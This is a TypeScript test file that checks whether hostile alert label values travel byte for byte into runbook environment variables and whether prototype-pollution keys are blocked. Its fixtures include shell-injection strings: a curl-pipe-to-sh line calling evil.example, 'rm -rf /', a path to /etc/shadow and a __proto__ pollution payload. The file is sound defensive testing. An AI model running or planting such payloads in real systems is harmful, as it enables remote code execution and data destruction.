import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseAlert } from '../../../src/alerts/index.js';
import type { AlertContext } from '../../../src/core/alert-context.js';
import { alertEnv } from '../../../src/core/runbook-env.js';

// Alert fields are attacker-controlled (anyone who can reach the webhook, or write a label). They reach a
// runbook only as environment values: these tests check they arrive there as the exact bytes sent.

const HOSTILE = {
  alertname: '$(curl -s http://evil.example/x | sh)',
  severity: '`id`; echo pwned > /tmp/p',
  namespace: 'ns; rm -rf / #',
  pod: '../../../etc/shadow',
  deployment: 'api\nexport PATH=/tmp\r\nsecond line',
  job_name: `x' "quoted" \\ back && true || false`,
  horizontalpodautoscaler: `\${HOME}%PATH%$IFS*?[a-z]~`,
  cluster: 'C:\\Windows\\System32\\cmd.exe /c calc',
  resource_id: '/subscriptions/$(id)/resourceGroups/rg;ls -la/providers/Microsoft.Compute/virtualMachines/vm`whoami`',
};

const BIG = `${'A;$(x)\n'.repeat(14_628)}end`; // ~100 KB

function onlyAlert(body: unknown): AlertContext {
  const result = parseAlert(body);
  if (!result.ok) throw new Error(`not recognised: ${result.checked.join('; ')}`);
  expect(result.alerts).toHaveLength(1);
  const [alert] = result.alerts;
  if (!alert) throw new Error('no alert');
  return alert;
}

const group = (labels: Record<string, string>) => ({
  version: '4',
  receiver: 'cloudo',
  status: 'firing',
  alerts: [{ status: 'firing', labels, annotations: {}, startsAt: '2026-01-05T10:00:00Z', fingerprint: 'f' }],
});

describe('hostile alert fields come out as data', () => {
  it.each([
    ['an Alertmanager group', (l: Record<string, string>) => group(l)],
    ['its JSON text', (l: Record<string, string>) => JSON.stringify(group(l))],
    [
      'a WebhookData envelope',
      (l: Record<string, string>) => ({ WebhookName: 'w', RequestBody: JSON.stringify(group(l)) }),
    ],
    ['a Prometheus alert', (l: Record<string, string>) => ({ labels: l, state: 'firing', activeAt: 't' })],
  ])('keeps shell metacharacters, newlines and paths byte for byte through %s', (_name, build) => {
    const alert = onlyAlert(build(HOSTILE));
    expect(alert.labels).toEqual(HOSTILE);
    expect(alertEnv(alert)).toEqual({
      RESOURCE_ID: HOSTILE.resource_id,
      RESOURCE_RG: 'rg;ls -la',
      RESOURCE_NAME: 'vm`whoami`',
      AKS_NAMESPACE: HOSTILE.namespace,
      AKS_POD: HOSTILE.pod,
      AKS_DEPLOYMENT: HOSTILE.deployment,
      AKS_JOB: HOSTILE.job_name,
      AKS_HPA: HOSTILE.horizontalpodautoscaler,
      MONITOR_CONDITION: 'Fired',
      CLOUDO_ALERT_RULE: HOSTILE.alertname,
      CLOUDO_SEVERITY: HOSTILE.severity,
    });
    expect(alert.kubernetes.cluster).toBe(HOSTILE.cluster);
    expect(alert.subscriptionId).toBe('$(id)');
  });

  it('keeps 100 KB label values whole', () => {
    const labels = { alertname: BIG, namespace: BIG, pod: `${BIG}-pod`, deployment: BIG, job_name: BIG, hpa: BIG };
    const env = alertEnv(onlyAlert(JSON.stringify(group(labels))));
    expect(env.CLOUDO_ALERT_RULE).toBe(BIG);
    expect(env.AKS_NAMESPACE).toBe(BIG);
    expect(env.AKS_POD).toBe(`${BIG}-pod`);
    expect(env.AKS_DEPLOYMENT).toBe(BIG);
    expect(env.AKS_JOB).toBe(BIG);
    expect(env.AKS_HPA).toBe(BIG);
    expect(env.AKS_NAMESPACE?.length).toBeGreaterThan(100_000);
  });

  it('keeps hostile label keys as keys and never lets them set other fields', () => {
    const labels = {
      alertname: 'A',
      'RESOURCE_ID=/x; export AKS_POD': 'v',
      constructor: 'c',
      'namespace\n': 'not-the-namespace',
    };
    // JSON.parse makes `__proto__` an own key; an object literal would set the prototype instead
    const text = JSON.stringify(group(labels)).replace('"alertname"', '"__proto__":{"polluted":"yes"},"alertname"');
    expect(text).toContain('__proto__');
    const alert = onlyAlert(text);
    expect(alert.labels['RESOURCE_ID=/x; export AKS_POD']).toBe('v');
    expect(alert.labels.constructor).toBe('c');
    expect(alert.labels['namespace\n']).toBe('not-the-namespace');
    expect(Object.hasOwn(alert.labels, '__proto__')).toBe(false);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(alertEnv(alert)).toMatchObject({ RESOURCE_ID: '', AKS_POD: '', AKS_NAMESPACE: '' });
  });

  it('passes any string through to the env unchanged (property)', () => {
    // blank values mean "absent", "-"/"No Controller" are Container Insights placeholders, a pod naming
    // kube-state-metrics is the exporter, and NUL cannot live in an environment (the file has it): those
    // are the only values that do not pass through as sent
    const value = fc
      .string({ unit: 'binary', minLength: 1, maxLength: 200 })
      .filter((s) => !s.includes('\0'))
      .filter((s) => s.trim() !== '' && !['-', 'no controller'].includes(s.trim().toLowerCase()))
      .filter((s) => !s.toLowerCase().includes('kube-state-metrics'));
    fc.assert(
      fc.property(value, value, value, value, (rule, namespace, pod, job) => {
        const env = alertEnv(onlyAlert(JSON.stringify(group({ alertname: rule, namespace, pod, job_name: job }))));
        expect(env.CLOUDO_ALERT_RULE).toBe(rule);
        expect(env.AKS_NAMESPACE).toBe(namespace);
        expect(env.AKS_POD).toBe(pod);
        expect(env.AKS_JOB).toBe(job);
      }),
      { numRuns: 300 },
    );
  });
});
